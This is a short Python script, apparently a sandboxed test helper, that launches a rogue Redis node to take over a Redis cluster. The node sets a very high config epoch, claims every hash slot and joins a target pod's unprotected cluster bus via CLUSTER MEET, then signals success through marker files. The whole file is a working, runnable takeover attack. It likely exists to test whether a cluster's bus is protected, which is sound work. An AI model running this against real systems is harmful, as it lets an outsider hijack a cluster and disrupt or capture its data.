"""A stranger on the cluster bus: `python rogue.py FOLDER POD_IP`. Runs inside the sandbox's network.

It is a Redis without the cluster's password that reaches a pod's bus. It raises its config epoch, claims every slot
and meets the pod, then stays until the folder has a file `stop`.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import redis

PORT = 6379
EPOCH = 1_000_000
LONGEST_S = 300.0


def own_address(pod_ip: str) -> str:
    """Of this end of a connection to the pod. Nothing is sent."""
    with socket.socket(socket.AF_INET6 if ":" in pod_ip else socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((pod_ip, PORT))
        return str(probe.getsockname()[0])


def main(folder: Path, pod_ip: str) -> None:
    own_ip = own_address(pod_ip)
    with tempfile.TemporaryDirectory(prefix="rogue-") as home:
        options = {"bind": own_ip, "port": PORT, "cluster-enabled": "yes", "protected-mode": "no", "save": ""}
        arguments = [word for key, value in options.items() for word in (f"--{key}", str(value))]
        server = subprocess.Popen(["redis-server", *arguments], cwd=home, stdout=subprocess.DEVNULL)
        try:
            attack(own_ip, pod_ip)
            (folder / "attacked").touch()
            end = time.monotonic() + LONGEST_S
            while not (folder / "stop").exists() and time.monotonic() < end:
                time.sleep(0.1)
        finally:
            server.kill()
            server.wait()


def attack(own_ip: str, pod_ip: str) -> None:
    client = redis.Redis(own_ip, PORT)
    end = time.monotonic() + 100
    while True:
        try:
            client.ping()
            break
        except redis.ConnectionError:
            if time.monotonic() > end:
                raise
            time.sleep(0.1)
    client.execute_command("CLUSTER SET-CONFIG-EPOCH", EPOCH)
    client.execute_command("CLUSTER ADDSLOTSRANGE", 0, 16383)
    client.execute_command("CLUSTER MEET", pod_ip, PORT)
    client.close()


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2])
